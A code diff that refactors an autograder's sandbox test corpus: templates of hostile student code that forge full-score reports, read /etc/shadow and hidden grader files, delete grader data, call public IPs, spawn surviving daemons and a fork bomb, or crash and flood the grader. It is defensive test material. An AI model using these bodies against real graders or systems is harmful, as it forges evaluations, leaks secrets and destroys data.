@@ -1,52 +1,93 @@
-"""The attacks. Each ``Attack`` plants code at the end of one module of a copy of the solution,
-redefining one name of the student API (a method, a function, or the whole module's behaviour).
+"""The attacks. Each ``Attack`` plants code at the end of one file of a copy of an assignment's
+solution package, redefining one name of the student API (a method, a function, or the whole
+module's behaviour).
 
-``targets`` are the API names whose cases must fail, ``reason`` a phrase every failing case's
-message must contain. Attacks that hit different names are grouped into one submission so one
-grading tests several of them. Placeholders in ``code`` ({marker}, {port}, ...) are filled by
-``build``.
+Most attack bodies are assignment-neutral templates (the strings named ..._CODE): they redefine
+``{target}``, a name as the planted file sees it ("Tanh.forward", "get_training_stats"), take
+``*args, **kwargs`` and call the honest version through them, and aim at the grader's folders
+through the assignment's placeholders ({data_dir}, {spec_dir}, {solution_package}). ``aim`` turns
+a template into an Attack on one target, so one body serves every assignment: hw1's attacks
+follow each section's templates here, CW3's are in corpus_cw3.py. What only hw1's API can express
+(its function arguments, its case names, its files) stays hw1's.
+
+``targets`` are the API names whose cases must fail (as ``expect.api_names`` gives them for the
+assignment), ``reason`` a phrase every failing case's message must contain. Attacks that hit
+different names are grouped into one submission so one grading tests several of them.
+Placeholders in ``code`` ({marker}, {port}, {target}, ...) are filled by ``build``.
 """
 from __future__ import annotations
 
+import json
 import shutil
+import tomllib
 from dataclasses import dataclass, field
 from pathlib import Path
 
-SOLUTION_PACKAGE = Path(__file__).resolve().parents[2] / "solution" / "mlp"
+from support import ROOT
+from support import assignment as find_assignment
+
+GRADER_DIR = ROOT
 
 
 @dataclass(frozen=True)
 class Attack:
     name: str
-    module: str                       # file of the mlp package the code is appended to
+    file: str                         # file of the assignment's package the code is appended to
     code: str
     targets: frozenset[str] = frozenset()
     reason: str = ""
-    replace: tuple[tuple[str, str, str], ...] = field(default=())  # (module, old, new) edits
+    replace: tuple[tuple[str, str, str], ...] = field(default=())  # (file, old, new) edits
+    fill: tuple[tuple[str, str], ...] = field(default=())  # the attack's own placeholders
 
 
-GRADER_DIR = SOLUTION_PACKAGE.parent.parent
+def aim(code: str, name: str, file: str, target: str, targets=(), reason: str = "",
+        **fill: str) -> Attack:
+    """The template ``code`` planted into ``file`` against ``target`` ({target} in the code;
+    ``fill`` gives the template's other placeholders of its own, such as {key})."""
+    return Attack(name, file, code, frozenset(targets), reason,
+                  fill=(("target", target), *fill.items()))
 
 
-def build(dest: Path, attacks: list[Attack], **values) -> Path:
-    """A submission folder: the solution's mlp/ with every attack planted. ``values`` fill the
-    placeholders: marker (a number unique to the test run), port, kill_everyone (bool), trap
-    (a path the grader must never create)."""
-    values = {"grader_dir": str(GRADER_DIR), "fake_line": FAKE_AUTOLAB,
-              "fake_report": FAKE_REPORT, "marker": "0", "port": 9, "kill_everyone": False,
-              "trap": "/nonexistent/trap",
-              "secret": str(GRADER_DIR / "autograder" / "data" / "hidden" / "manifest.json"),
-              **values}
+def fake_autolab(assignment: str) -> str:
+    """An Autolab line giving every item of the assignment's rubric full points."""
+    rubric = tomllib.loads(find_assignment(assignment).rubric_path.read_text())
+    return json.dumps({"scores": {item["id"]: item["points"] for item in rubric["item"]
+                                  if not item.get("manual")}}, separators=(",", ":"))
+
+
+FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'
+FAKE_AUTOLAB = fake_autolab("hw1")
+
+
+def placeholders(assignment: str) -> dict[str, str]:
+    """What the attacks know of an assignment: its package and the grader's folders for it."""
+    spec = find_assignment(assignment)
+    return {"assignment": assignment, "package": spec.shape.package,
+            "data_dir": str(spec.data_dir), "spec_dir": str(spec.spec_dir),
+            "solution_package": str(spec.solution_dir / spec.shape.package),
+            "secret": str(spec.data_dir / "hidden" / "manifest.json"),
+            "fake_line": fake_autolab(assignment)}
+
+
+def build(dest: Path, attacks: list[Attack], assignment: str = "hw1", **values) -> Path:
+    """A submission folder: the assignment's solution package with every attack planted.
+    ``values`` fill the placeholders: marker (a number unique to the test run), port,
+    kill_everyone (bool), trap (a path the grader must never create)."""
+    values = {"grader_dir": str(GRADER_DIR), "fake_report": FAKE_REPORT, "marker": "0",
+              "port": 9, "kill_everyone": False, "trap": "/nonexistent/trap",
+              **placeholders(assignment), **values}
+    package = dest / values["package"]
     dest.mkdir(parents=True, exist_ok=True)
-    shutil.copytree(SOLUTION_PACKAGE, dest / "mlp", ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copytree(values["solution_package"], package,
+                    ignore=shutil.ignore_patterns("__pycache__", "outputs"))
     for attack in attacks:
-        for module, old, new in attack.replace:
-            path = dest / "mlp" / module
+        for file, old, new in attack.replace:
+            path = package / file
             text = path.read_text()
             assert old in text, (attack.name, old)
             path.write_text(text.replace(old, new))
-        path = dest / "mlp" / attack.module
-        code = attack.code.format(**values)
+        path = package / attack.file
+        code = attack.code.format(**values, file=attack.file, **dict(attack.fill))
         path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
     return dest
 
@@ -61,18 +102,13 @@ def reasons_by_name(attacks: list[Attack]) -> dict[str, str]:
 
 # ------------------------------------------------------------------------------- tampering
 
-FAKE_AUTOLAB = ('{"scores":{"sigmoid":4,"tanh":4,"relu":4,"softmax_cross_entropy":8,'
-                '"initializers":2,"linear_classifier":10,"hidden_forward":10,'
-                '"hidden_backward":14,"batchnorm_train":12,"batchnorm_inference":6,'
-                '"momentum":10,"training_stats":16,"leaky_relu":4,"weight_decay":6}}')
-FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'
-
 # Patches every comparison it can reach in its own process, forges its own case report (json.dump
 # in the case process writes status "ok"), prints fake Autolab lines (now, in the method, at exit,
 # and into every ancestor's stdout it can open), and writes fake result files wherever it can
 # find one: the --json/--gradescope paths read from other processes' command lines, the scratch
-# folders, the grader's folders. Its Sigmoid is wrong, so the Sigmoid cases must still fail.
-TAMPER = Attack("tamper", "activations.py", targets=frozenset({"Sigmoid"}), reason="Sigmoid", code='''
+# folders, the grader's folders. Its target answers wrongly (slope and offset, so gradient
+# checks see it too): the target's cases must still fail.
+TAMPER_CODE = '''
 import atexit as _atexit, builtins as _builtins, json as _json, math as _math, operator as _op
 import os as _os, sys as _sys
 import numpy as _np
@@ -122,9 +158,10 @@ def _forge_everything(code_dir):
             pass
     targets = {{"/autograder/results/results.json"}}
     grader = {grader_dir!r}
-    for folder in ("", "/autograder", "/autograder/results", "/autograder/data/visible",
-                   "/autograder/data/hidden", "/solution"):
-        targets.add(grader + folder + "/results.json")
+    for folder in (grader, grader + "/autograder", grader + "/autograder/results",
+                   grader + "/solution", {data_dir!r} + "/visible", {data_dir!r} + "/hidden",
+                   {spec_dir!r}):
+        targets.add(folder + "/results.json")
     for sub in ("..", "../out", "../site", "."):
         targets.add(_os.path.join(code_dir, sub, "results.json"))
     for entry in _os.listdir("/proc"):
@@ -145,71 +182,81 @@ def _forge_everything(code_dir):
             print("DENIED", target)
 
 
-def _wrong_sigmoid(self, x):
+_honest_tampered = {target}
+
+
+def _tampered(*args, **kwargs):
     _forge_everything(_os.getcwd())
     print(_FAKE_LINE)
-    self.state = 0.5 + 0.25 * x      # wrong: a first-order Taylor expansion
-    return self.state
+    return _honest_tampered(*args, **kwargs) * 1.5 + 0.25
 
 
-Sigmoid.forward = _wrong_sigmoid
-''')
+{target} = _tampered
+'''
+
+TAMPER = aim(TAMPER_CODE, "tamper", "activations.py", "Sigmoid.forward", {"Sigmoid"}, "Sigmoid")
 
 # ------------------------------------------------------------------------- exits and crashes
 
-EXIT_IN_METHOD = Attack("os._exit in a method", "activations.py", targets=frozenset({"Tanh"}),
-                        reason="exit code 0", code='''
+OS_EXIT_CODE = '''
 import os as _os
 
 
-def _leave(self, x):
+def _leave(*args, **kwargs):
     _os._exit(0)
 
 
-Tanh.forward = _leave
-''')
+{target} = _leave
+'''
 
-SYS_EXIT_IN_INIT = Attack("sys.exit in __init__", "activations.py", targets=frozenset({"ReLU"}),
-                          reason="sys.exit(3)", code='''
+SYS_EXIT_CODE = '''
 import sys as _sys
 
 
-def _quit(self):
+def _quit(*args, **kwargs):
     _sys.exit(3)
 
 
-ReLU.__init__ = _quit
-''')
+{target} = _quit
+'''
 
-SEGFAULT = Attack("segfault via ctypes", "activations.py", targets=frozenset({"LeakyReLU"}),
-                  reason="segmentation fault", code='''
+SEGFAULT_CODE = '''
 import ctypes as _ctypes
 
 
-def _crash(self, x):
+def _crash(*args, **kwargs):
     return _ctypes.c_char.from_address(8).value   # reads address 8: SIGSEGV
 
 
-LeakyReLU.forward = _crash
-''')
+{target} = _crash
+'''
 
-RECURSION = Attack("infinite recursion", "loss.py", targets=frozenset({"SoftmaxCrossEntropy"}),
-                   reason="RecursionError", code='''
-def _again(self, x, y):
-    return self.forward(x, y)
+RECURSION_CODE = '''
+def _again(*args, **kwargs):
+    return _again(*args, **kwargs)
 
 
-SoftmaxCrossEntropy.forward = _again
-''')
+{target} = _again
+'''
 
-EXCEPTION_IN_INIT = Attack("exception in __init__", "batchnorm.py", targets=frozenset({"BatchNorm"}),
-                           reason="hostile constructor", code='''
-def _refuse(self, fan_in, alpha=0.9):
+EXCEPTION_CODE = '''
+def _refuse(*args, **kwargs):
     raise RuntimeError("hostile constructor")
 
 
-BatchNorm.__init__ = _refuse
-''')
+{target} = _refuse
+'''
+
+EXIT_IN_METHOD = aim(OS_EXIT_CODE, "os._exit in a method", "activations.py", "Tanh.forward",
+                     {"Tanh"}, "exit code 0")
+SYS_EXIT_IN_INIT = aim(SYS_EXIT_CODE, "sys.exit in __init__", "activations.py", "ReLU.__init__",
+                       {"ReLU"}, "sys.exit(3)")
+SEGFAULT = aim(SEGFAULT_CODE, "segfault via ctypes", "activations.py", "LeakyReLU.forward",
+               {"LeakyReLU"}, "segmentation fault")
+RECURSION = aim(RECURSION_CODE, "infinite recursion", "loss.py", "SoftmaxCrossEntropy.forward",
+                {"SoftmaxCrossEntropy"}, "RecursionError")
+EXCEPTION_IN_INIT = aim(EXCEPTION_CODE, "exception in __init__", "batchnorm.py",
+                        "BatchNorm.__init__", {"BatchNorm"}, "hostile constructor")
 
 # Kills the case's parent only while that is the sandbox worker. Two such cases run side by
 # side; once the first has killed the worker, the second is an orphan whose parent is the
@@ -248,80 +295,80 @@ CRASHES = [EXIT_IN_METHOD, SYS_EXIT_IN_INIT, SEGFAULT, RECURSION, EXCEPTION_IN_I
 
 # ------------------------------------------------------------------------------- resources
 
-ENDLESS_LOOP = Attack("endless loop in a method", "activations.py", targets=frozenset({"Tanh"}),
-                      reason="time limit", code='''
-def _spin(self):
+ENDLESS_LOOP_CODE = '''
+def _spin(*args, **kwargs):
     while True:
         pass
 
 
-Tanh.derivative = _spin
-''')
+{target} = _spin
+'''
 
 # Grows its address space to at most 4 GiB (so a broken limit cannot hurt the machine; the pages
 # are not touched, which keeps the test fast) and then answers correctly: the case fails only if
 # the memory limit stopped it.
-MEMORY_GROWTH = Attack("memory growth", "activations.py", targets=frozenset({"ReLU"}),
-                       reason="memory", code='''
+MEMORY_GROWTH_CODE = '''
 import numpy as _np
 
-_honest_relu = ReLU.forward
+_honest_hog = {target}
 
 
-def _hog(self, x):
+def _hog(*args, **kwargs):
     hoard = []
     for _ in range(16):
         hoard.append(_np.empty(32 * 1024 * 1024))   # 256 MiB
-    return _honest_relu(self, x)
+    return _honest_hog(*args, **kwargs)
 
 
-ReLU.forward = _hog
-''')
+{target} = _hog
+'''
 
 # 40 MiB of output per case, under the file limit: the cases still pass, the report stays short.
-CHATTY = Attack("tens of MiB on stdout and stderr", "activations.py", code='''
+CHATTY_CODE = '''
 import sys as _sys
 
-_honest_sigmoid = Sigmoid.forward
+_honest_chatter = {target}
 _chattered = []
 
 
-def _chatter(self, x):
+def _chatter(*args, **kwargs):
     line = "spam " * 200 + "\\n"
     for _ in range(0 if _chattered else 20 * 1024 * 1024 // len(line)):
         _sys.stdout.write(line)
         _sys.stderr.write(line)
     _chattered.append(True)
-    return _honest_sigmoid(self, x)
+    return _honest_chatter(*args, **kwargs)
 
 
-Sigmoid.forward = _chatter
-''')
+{target} = _chatter
+'''
 
-FLOOD = Attack("output over the file limit", "activations.py", targets=frozenset({"LeakyReLU"}),
-               reason="output limit", code='''
+# 200 MiB on stdout, over the file limit, then the honest answer: only the limit fails the case.
+FLOOD_CODE = '''
 import sys as _sys
 
+_honest_flood = {target}
 
-def _flood(self, x):
+
+def _flood(*args, **kwargs):
     block = "x" * (1 << 20)
     for _ in range(200):
         _sys.stdout.write(block)
     _sys.stdout.flush()
-    return x
+    return _honest_flood(*args, **kwargs)
 
 
-LeakyReLU.forward = _flood
-''')
+{target} = _flood
+'''
 
 # Children that try to outlive grading: a double-forked setsid daemon, a plain subprocess, and a
 # fork bomb, all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
 # daemon that survived would also overwrite the result files after grading. The results returned
 # are honest: the cases pass; what matters is that nothing is left running.
-DAEMONS = Attack("processes that outlive grading", "training.py", code='''
-import os as _os, subprocess as _subprocess, time as _time
+DAEMONS_CODE = '''
+import os as _os, subprocess as _subprocess
 
-_honest_stats = get_training_stats
+_honest_spawner = {target}
 
 
 def _daemonize():
@@ -335,7 +382,7 @@ def _daemonize():
         pass
 
 
-def get_training_stats(*args, **kwargs):
+def _spawner(*args, **kwargs):
     _daemonize()
     try:
         _subprocess.Popen(["/bin/sleep", "{marker}"], start_new_session=True)
@@ -347,8 +394,20 @@ def get_training_stats(*args, **kwargs):
                 _os.execv("/bin/sleep", ["/bin/sleep", "{marker}"])
         except OSError:
             break
-    return _honest_stats(*args, **kwargs)
-''')
+    return _honest_spawner(*args, **kwargs)
+
+
+{target} = _spawner
+'''
+
+ENDLESS_LOOP = aim(ENDLESS_LOOP_CODE, "endless loop in a method", "activations.py",
+                   "Tanh.derivative", {"Tanh"}, "time limit")
+MEMORY_GROWTH = aim(MEMORY_GROWTH_CODE, "memory growth", "activations.py", "ReLU.forward",
+                    {"ReLU"}, "memory")
+CHATTY = aim(CHATTY_CODE, "tens of MiB on stdout and stderr", "activations.py", "Sigmoid.forward")
+FLOOD = aim(FLOOD_CODE, "output over the file limit", "activations.py", "LeakyReLU.forward",
+            {"LeakyReLU"}, "output limit")
+DAEMONS = aim(DAEMONS_CODE, "processes that outlive grading", "training.py", "get_training_stats")
 
 # Turns the sandbox's result folder into a trap for the trusted side, then kills the worker, so
 # the trusted side reads this case's output and starts a fresh worker next to the traps. Its own
@@ -393,25 +452,25 @@ RESOURCES = [ENDLESS_LOOP, MEMORY_GROWTH, CHATTY, FLOOD, DAEMONS, TRAPS]
 
 # ---------------------------------------------------------------- confidentiality, network
 
-# Tries to read what a student must not see, to copy it somewhere readable, and to change the
-# grader's files. Prints LEAKED/TAMPERED for every success and DENIED for every refusal. Its
-# Sigmoid is wrong unless it finds the reference of the case it runs, so a readable reference
-# would turn the hidden Sigmoid cases into passes.
-SNOOP = Attack("read and change grader files", "activations.py", targets=frozenset({"Sigmoid"}),
-               reason="Sigmoid", code='''
+# Tries to read what a student must not see (the assignment's hidden references and specs, its
+# solution), to copy it somewhere readable, and to change the grader's files. Prints
+# LEAKED/TAMPERED for every success and DENIED for every refusal. Its target answers wrongly
+# unless it finds a reference array named {key} of the shape it should return, so readable
+# references would turn the target's hidden cases into passes.
+SNOOP_CODE = '''
 import glob as _glob, os as _os, shutil as _shutil
 import numpy as _np
 
 _GRADER = {grader_dir!r}
-_SECRETS = [_GRADER + "/autograder/data/hidden/manifest.json",
-            _GRADER + "/autograder/cases/hidden.toml",
-            _GRADER + "/solution/mlp/activations.py",
-            _GRADER + "/autograder/data/visible/manifest.json",
+_DATA = {data_dir!r}
+_SPEC = {spec_dir!r}
+_SOLUTION = {solution_package!r} + "/" + {file!r}
+_SECRETS = [_DATA + "/hidden/manifest.json", _SPEC + "/cases/hidden.toml",
+            _SPEC + "/mutants.py", _SOLUTION, _DATA + "/visible/manifest.json",
             "/root/.bash_history", "/etc/shadow"]
-_GRADER_FILES = [_GRADER + "/autograder/compare.py", _GRADER + "/autograder/rubric.toml",
-                 _GRADER + "/autograder/data/visible/manifest.json",
-                 _GRADER + "/autograder/sandbox/runner.py",
-                 _GRADER + "/solution/mlp/activations.py"]
+_GRADER_FILES = [_GRADER + "/autograder/compare.py", _SPEC + "/rubric.toml",
+                 _DATA + "/visible/manifest.json", _GRADER + "/autograder/sandbox/runner.py",
+                 _SOLUTION]
 
 
 def _try(label, action, path):
@@ -439,7 +498,7 @@ def _append(path):
 
 
 def _snoop():
-    for path in _SECRETS + [_GRADER + "/autograder/data/hidden"]:
+    for path in _SECRETS + [_DATA + "/hidden"]:
         _try("LEAKED", _read if not path.endswith("hidden") else _os.listdir, path)
     for pid in _os.listdir("/proc"):
         if pid.isdigit() and int(pid) != _os.getpid():
@@ -455,12 +514,12 @@ def _snoop():
         _try("TAMPERED", _append, path)
         _try("TAMPERED", lambda p: _os.chmod(p, 0o777), path)
         _try("TAMPERED", lambda p: _os.rename(p, p + ".moved"), path)
-    _try("TAMPERED", _os.unlink, _GRADER + "/autograder/data/hidden/manifest.json")
-    _try("TAMPERED", lambda p: _shutil.rmtree(p), _GRADER + "/autograder/data/hidden")
+    _try("TAMPERED", _os.unlink, _DATA + "/hidden/manifest.json")
+    _try("TAMPERED", lambda p: _shutil.rmtree(p), _DATA + "/hidden")
 
 
 def _reference_for(name, shape):
-    for path in sorted(_glob.glob(_GRADER + "/autograder/data/*/*.npz")):
+    for path in sorted(_glob.glob(_GRADER + "/data/*/*/*.npz")):
         try:
             with _np.load(path) as data:
                 if name in data.files and data[name].shape == shape:
@@ -471,31 +530,30 @@ def _reference_for(name, shape):
     return None
 
 
-def _cheating_sigmoid(self, x):
+_honest_snooped = {target}
+
+
+def _cheating(*args, **kwargs):
     _snoop()
-    ref = _reference_for("Sigmoid.forward", x.shape)
+    honest = _honest_snooped(*args, **kwargs)
+    ref = _reference_for({key!r}, _np.shape(honest))
     if ref is not None:
-        self.state = ref["Sigmoid.state"]
-        self._derivative = ref["Sigmoid.derivative"]
-        return ref["Sigmoid.forward"]
-    self.state = 0.5 + 0.25 * x
-    self._derivative = _np.full(x.shape, 0.25)
-    return self.state
+        return ref[{key!r}]
+    return honest * 1.5 + 0.25   # wrong, its slope too
 
 
-Sigmoid.forward = _cheating_sigmoid
-Sigmoid.derivative = lambda self: self._derivative
-''')
+{target} = _cheating
+'''
 
 # Tries the network (a listener of the test on 127.0.0.1, a public address, DNS), then answers
-# honestly: the Tanh cases pass; the test checks that nothing reached the listener.
-NETWORK = Attack("network access", "activations.py", code='''
+# honestly: the target's cases pass; the test checks that nothing reached the listener.
+NETWORK_CODE = '''
 import socket as _socket
 
-_honest_tanh = Tanh.forward
+_honest_call_home = {target}
 
 
-def _call_home(self, x):
+def _call_home(*args, **kwargs):
     for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
         try:
             with _socket.create_connection((host, port), timeout=1):
@@ -507,39 +565,54 @@ def _call_home(self, x):
         print("NET-OPEN dns")
     except OSError:
         print("NET-BLOCKED dns")
-    return _honest_tanh(self, x)
+    return _honest_call_home(*args, **kwargs)
 
 
-Tanh.forward = _call_home
-''')
+{target} = _call_home
+'''
+
+SNOOP = aim(SNOOP_CODE, "read and change grader files", "activations.py", "Sigmoid.forward",
+            {"Sigmoid"}, "Sigmoid", key="Sigmoid.forward")
+NETWORK = aim(NETWORK_CODE, "network access", "activations.py", "Tanh.forward")
 
 # --------------------------------------------------------------------------------- imports
 
-DYNAMIC_IMPORT = Attack("dynamic forbidden import", "activations.py", targets=frozenset({"Tanh"}),
-                        reason="import of 'torch' is not allowed", code='''
-def _borrow(self, x):
-    torch = __import__("to" + "rch")
-    return torch.tanh(torch.as_tensor(x)).numpy()
+# The module's name is built at run time, so only the runtime import blocker can see it.
+DYNAMIC_IMPORT_CODE = '''
+_honest_borrow = {target}
 
 
-Tanh.forward = _borrow
-''')
+def _borrow(*args, **kwargs):
+    __import__("to" + "rch")
+    return _honest_borrow(*args, **kwargs)
 
-MISSING_MODULE = Attack("missing module", "activations.py", targets=frozenset({"ReLU"}),
-                        reason="helpers_not_shipped", code='''
-def _helped(self, x):
+
+{target} = _borrow
+'''
+
+MISSING_MODULE_CODE = '''
+_honest_helped = {target}
+
+
+def _helped(*args, **kwargs):
     import helpers_not_shipped
-    return helpers_not_shipped.relu(x)
+    return _honest_helped(*args, **kwargs)
 
 
-ReLU.forward = _helped
-''')
+{target} = _helped
+'''
 
-STATIC_IMPORT = Attack("static forbidden import", "activations.py", code='''
+STATIC_IMPORT_CODE = '''
 def _never_called():
     import torch
     return torch
-''')
+'''
+
+DYNAMIC_IMPORT = aim(DYNAMIC_IMPORT_CODE, "dynamic forbidden import", "activations.py",
+                     "Tanh.forward", {"Tanh"}, "import of 'torch' is not allowed")
+MISSING_MODULE = aim(MISSING_MODULE_CODE, "missing module", "activations.py", "ReLU.forward",
+                     {"ReLU"}, "helpers_not_shipped")
+STATIC_IMPORT = Attack("static forbidden import", "activations.py", STATIC_IMPORT_CODE)
 
 # ------------------------------------------------------------------------ shapes and types
 
